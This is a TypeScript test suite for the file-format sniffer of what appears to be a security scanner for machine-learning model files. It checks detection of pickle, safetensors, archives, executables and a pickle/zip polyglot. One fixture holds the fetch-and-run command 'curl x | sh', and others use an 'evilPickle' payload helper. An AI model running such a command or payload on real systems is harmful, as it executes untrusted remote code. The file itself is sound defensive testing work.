import { sniff, plausiblePickle, isProtobufWire } from '../../src/scan/sniff.js';
import { benignPickle, buildZip, cat, enc, evilPickle, gguf, latin, npy, safetensors, tar, torchZip, u32 } from './support/fixtures.js';
import { gzipSync, deflateSync } from 'node:zlib';

const formats = (b: Uint8Array, tail?: Uint8Array): string[] => sniff(b.subarray(0, 65536), b.length, tail ?? b.subarray(Math.max(0, b.length - 65558))).formats;

describe('sniff: content decides, never the name', () => {
  test.each([
    ['pickle protocol 2', benignPickle(), 'pickle'],
    ['pickle payload', evilPickle(), 'pickle'],
    ['protocol 0 pickle', latin("(dp0\nS'a'\np1\nI1\ns."), 'pickle'],
    ['numpy', npy('<f4', [2], new Uint8Array(8)), 'numpy'],
    ['safetensors', safetensors({ w: { dtype: 'F32', shape: [2], bytes: 8 } }), 'safetensors'],
    ['gguf', gguf([['general.name', 'str', 'x']]), 'gguf'],
    ['tar', tar([{ name: 'a.txt', data: enc('hi') }]), 'tar'],
    ['gzip', new Uint8Array(gzipSync(benignPickle())), 'gzip'],
    ['zlib', new Uint8Array(deflateSync(benignPickle())), 'zlib'],
    ['bz2', latin('BZh91AY&SY\x00\x00'), 'bz2'],
    ['xz', cat([0xfd], '7zXZ', [0, 0, 4]), 'xz'],
    ['lzma', cat([0x5d, 0, 0, 0x80, 0], new Array(8).fill(0xff), [0, 1, 2]), 'lzma'],
    ['lz4', cat([0x04, 0x22, 0x4d, 0x18], [0x64, 0x40]), 'lz4'],
    ['7z', cat('7z', [0xbc, 0xaf, 0x27, 0x1c, 0, 4]), '7z'],
    ['joblib ZF', cat('ZF0x1f               ', new Uint8Array(deflateSync(benignPickle()))), 'joblib-zf'],
    ['hdf5', cat([0x89], 'HDF\r\n\x1a\n', new Uint8Array(100)), 'hdf5'],
    ['hdf5 after a 512-byte user block', cat(new Uint8Array(512), [0x89], 'HDF\r\n\x1a\n', new Uint8Array(100)), 'hdf5'],
    ['ELF', cat([0x7f], 'ELF', [2, 1, 1], new Uint8Array(60)), 'elf'],
    ['PE', (() => { const b = new Uint8Array(256); b.set(latin('MZ')); b.set(u32(0x80), 0x3c); b.set(latin('PE\0\0'), 0x80); return b; })(), 'pe'],
    ['Mach-O', cat([0xcf, 0xfa, 0xed, 0xfe], new Uint8Array(28)), 'macho'],
    ['wasm', cat([0], 'asm', [1, 0, 0, 0]), 'wasm'],
    ['dex', cat('dex\n035\0', new Uint8Array(100)), 'dex'],
    ['ole', cat([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Uint8Array(100)), 'ole'],
    ['shebang', enc('#!/bin/sh\ncurl x | sh\n'), 'script'],
    ['json', enc('{"a": 1}'), 'json'],
    ['notebook', enc('{"cells": [], "metadata": {}, "nbformat": 4}'), 'notebook'],
    ['python', enc('import os\n\ndef f():\n    pass\n'), 'python'],
    ['text', enc('# Model card\n\nHello.\n'), 'text'],
    ['png', cat([0x89], 'PNG\r\n\x1a\n', new Uint8Array(20)), 'image'],
    ['onnx-like protobuf', cat([0x08, 0x07, 0x12, 0x04], 'onnx', [0x1a, 0x03], 'x.y', [0x3a, 0x02, 0x08, 0x01]), 'protobuf']
  ])('%s', (_name, bytes, expected) => {
    expect(formats(bytes)).toContain(expected);
  });

  test('zip needs its end record in the tail', () => {
    const z = torchZip();
    expect(sniff(z.subarray(0, 1024), z.length, z.subarray(z.length - 2048)).zip).toEqual({ localHeaderAt0: true, eocdInTail: true });
    expect(sniff(z.subarray(0, 1024), z.length, z.subarray(0, 10)).zip).toEqual({ localHeaderAt0: true, eocdInTail: false });
  });

  test('polyglot: pickle first, zip at the end, both claimed', () => {
    const z = buildZip([{ name: 'a.txt', data: enc('x') }], { prefix: evilPickle() });
    const f = formats(z);
    expect(f).toEqual(expect.arrayContaining(['pickle', 'zip']));
  });

  test('random binary is unknown, not clean', () => {
    const b = new Uint8Array(4096);
    for (let i = 0; i < b.length; i++) b[i] = (i * 2654435761) >>> 24;
    b[0] = 0xfe; b[1] = 0x00;
    expect(formats(b)).toEqual(['unknown-binary']);
  });

  test('a safetensors header length that starts like a pickle header is not a pickle', () => {
    const st = safetensors({ w: { dtype: 'F32', shape: [2], bytes: 8 } }, undefined, `{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}${' '.repeat(640 - 55)}`);
    expect(st[0]).toBe(0x80);
    expect(st[1]).toBe(0x02);
    expect(formats(st)).toEqual(['safetensors']);
  });

  test('text is not taken for a protocol 0 pickle', () => {
    for (const t of ['(c) 2024 The Authors\n', 'class Foo:\n    pass\n', 'I like it\n', ']\n', 'N.', 'Good model.\n']) {
      expect(plausiblePickle(enc(t), true)).toBe(t === 'N.');
    }
  });

  test('protobuf wire check rejects text and accepts field streams', () => {
    expect(isProtobufWire(enc('hello world, this is text'), true)).toBe(false);
    expect(isProtobufWire(cat([0x0a, 0x03], 'abc', [0x10, 0x01]), true)).toBe(true);
  });

  test('empty file', () => {
    expect(sniff(new Uint8Array(0), 0).formats).toEqual(['empty']);
  });
});
